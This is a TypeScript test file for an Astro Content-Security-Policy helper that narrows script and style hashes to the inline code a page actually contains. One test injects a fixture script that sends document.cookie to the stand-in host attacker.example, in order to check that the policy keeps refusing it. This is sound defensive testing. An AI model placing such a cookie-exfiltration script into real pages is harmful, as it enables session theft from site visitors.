import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { narrowedPolicy } from './page-csp.ts';

const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

const island = '(()=>{customElements.define("astro-island",class extends HTMLElement{})})();';
const enhance = 'import "/_astro/form.js"; document.body.dataset.ready = "1";';
const islandStyle = 'astro-island,astro-slot{display:contents}';
const elsewhere = ['console.log("another page")', 'main{color:red}'].map(hashOf);

/** Written as Astro writes it: its directives, then script-src and style-src with the build's hashes. */
const policy =
  "default-src 'self';img-src 'self' data:; " +
  `script-src 'self' ${hashOf(island)} ${hashOf(enhance)} ${elsewhere[0]} 'sha384-kept'; style-src 'self' ${hashOf(islandStyle)} ${elsewhere[1]};`;

const sources = (narrowed: string, directive: string) =>
  narrowed
    .split(';')
    .map((d) => d.trim().split(/\s+/))
    .find(([name]) => name === directive)
    ?.slice(1);

describe('the policy of a kept page', () => {
  it('names only the hashes of the inline scripts and styles the page holds, and leaves every other source as it was', () => {
    const page = `<!doctype html><html><head><style>${islandStyle}</style><script type="module" data-note="a > b">${enhance}</script>
      <script type="module" src="/_astro/page.js"></script></head><body><script>${island}</script></body></html>`;
    const narrowed = narrowedPolicy(policy, page);
    expect(narrowed).toBe(
      "default-src 'self';img-src 'self' data:; " +
        `script-src 'self' ${hashOf(island)} ${hashOf(enhance)} 'sha384-kept'; style-src 'self' ${hashOf(islandStyle)};`,
    );
  });

  it('takes every sha256 hash off a page with no inline script or style, and leaves the other sources', () => {
    const narrowed = narrowedPolicy(policy, '<!doctype html><html><head><script src="/_astro/a.js"></script></head><body><p>Jobs</p></body></html>');
    expect(sources(narrowed, 'script-src')).toEqual(["'self'", "'sha384-kept'"]);
    expect(sources(narrowed, 'style-src')).toEqual(["'self'"]);
  });

  it('never allows an inline script the policy did not: a script injected into the page stays refused', () => {
    const injected = 'fetch("https://attacker.example/?" + document.cookie)';
    const narrowed = narrowedPolicy(policy, `<html><body><script>${injected}</script><script>${island}</script></body></html>`);
    expect(narrowed).not.toContain(hashOf(injected));
    expect(sources(narrowed, 'script-src')).toEqual(["'self'", hashOf(island), "'sha384-kept'"]);
  });

  it('reads each element to its own closing tag, whatever the case of its tags, and no custom element for a style', () => {
    const page = `<SCRIPT type="module">${enhance}</SCRIPT ><style-guide>${islandStyle}</style-guide><script>${island}</script>`;
    const narrowed = narrowedPolicy(policy, page);
    expect(sources(narrowed, 'script-src')).toEqual(["'self'", hashOf(island), hashOf(enhance), "'sha384-kept'"]);
    expect(sources(narrowed, 'style-src')).toEqual(["'self'"]);
  });
});
